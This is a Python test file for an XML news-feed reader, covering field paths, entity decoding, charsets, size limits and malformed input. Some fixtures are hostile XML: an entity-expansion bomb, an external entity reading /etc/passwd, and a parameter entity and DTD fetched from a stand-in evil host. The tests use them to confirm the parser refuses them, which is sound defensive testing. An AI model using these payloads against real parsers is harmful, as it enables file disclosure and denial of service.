import pytest
from hypothesis import given, strategies as st

from newsclean.discover.xml import Record, read_xml
from newsclean.page import Page

NAMES = frozenset({"item"})


def records(text: str | bytes) -> tuple[Record, ...]:
    return read_xml(Page.of(text), NAMES).records


def trouble(text: str | bytes) -> str | None:
    return read_xml(Page.of(text), NAMES).trouble


def test_fields_are_found_by_their_path_and_attributes() -> None:
    (record,) = records("<a><Item x='1'><b>one</b><c><b D='2'>two</b></c><b>three</b></Item></a>")
    assert record.texts("b") == ("one", "three")
    assert record.text("none", "c/b") == "two"
    assert [field.attributes for field in record.fields if field.path == "c/b"] == [{"d": "2"}]


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("a &amp; b", "a & b"),
        ("a & b", "a & b"),
        ("a&b=1&copy;", "a&b=1©"),
        ("&nbsp;caf&eacute;", "café"),
        ("&nosuch; thing", "&nosuch; thing"),
        ("&#233;&#xe9;", "éé"),
        ("<![CDATA[a & b &amp; <i>]]>", "a & b &amp; <i>"),
        ("one\x0b\x1ftwo", "onetwo"),
    ],
)
def test_what_is_badly_written_is_read_as_it_was_meant(written: str, meant: str) -> None:
    (record,) = records(f"<a><item><b>{written}</b></item></a>")
    assert record.text("b") == meant


def test_a_prefix_that_needs_none_is_left_out_and_an_undeclared_one_is_no_fault() -> None:
    (record,) = records("<a><atom:item><atom:b>x</atom:b><dc:b>y</dc:b></atom:item></a>")
    assert (record.text("b"), record.text("dc:b")) == ("x", "y")


@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "windows-1251", "gb18030", "euc-kr"])
def test_any_charset_of_the_web_is_read(charset: str) -> None:
    text = {"windows-1251": "Паром", "gb18030": "渡船又过河了", "euc-kr": "나룻배가 다시"}.get(
        charset, "é"
    )
    xml = f"<?xml version='1.0' encoding='{charset}'?><a><item><b>{text}</b></item></a>"
    assert records(xml.encode(charset))[0].text("b") == text


BOMB = "<!DOCTYPE a [<!ENTITY x 'xxxxxxxxxx'>" + "".join(
    f"<!ENTITY x{n} '&x{n - 1 or ''};&x{n - 1 or ''};'>" for n in range(1, 60)
)


@pytest.mark.parametrize(
    "document",
    [
        f"{BOMB}]><a><item><b>&x59;</b></item></a>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a><item><b>&x;</b></item></a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.invalid/x'>%x;]><a><item/></a>",
        f"{BOMB}]><a><item b='&x59;'/></a>".encode("utf-16"),
    ],
)
def test_a_document_with_entities_of_its_own_is_refused(document: str | bytes) -> None:
    assert records(document) == ()
    assert "entities of its own" in (trouble(document) or "")


def test_a_document_type_elsewhere_is_not_fetched() -> None:
    head = "<!DOCTYPE rss PUBLIC '-//N//D' 'http://evil.invalid/rss.dtd'>"
    assert len(records(f"{head}<rss><item/></rss>")) == 1


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        ("<a><item/><item>", "ends in the middle"),
        ("<a><item/></b>", "broken in line 1"),
        ("<a><item/>" + "<![CDATA[" * 100_000, "broken in line 1"),
        ("<a><item/>" + "<x>" * 200, "nested more than"),
        ("<a>" + "<item/>" * 50_001 + "</a>", "only its first 50000"),
    ],
)
def test_what_stands_before_a_fault_is_given_with_it(document: str, reason: str) -> None:
    reading = read_xml(Page.of(document), NAMES)
    assert reason in (reading.trouble or "")
    assert len(reading.records) in {1, 50_000}


def test_a_record_of_any_size_costs_what_may_be_kept_of_it() -> None:
    (record,) = records("<a><item>" + f"<b>{'x' * 50_000}</b>" * 300 + "</item></a>")
    assert len(record.fields) == 200
    assert {len(field.text) for field in record.fields} == {20_000}


@pytest.mark.parametrize(
    "data", [b"", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0\x01\xff" * 99, b"\0"]
)
def test_bytes_that_are_no_text_are_told_as_such(data: bytes) -> None:
    reading = read_xml(Page.of(data), NAMES)
    assert (reading.root, reading.records) == (None, ())
    assert reading.trouble


@given(st.one_of(st.binary(max_size=300), st.text(alphabet="<>/&;!?[]a item=\"'-#", max_size=80)))
def test_nothing_is_raised_whatever_the_bytes(data: bytes | str) -> None:
    read_xml(Page.of(data), NAMES)
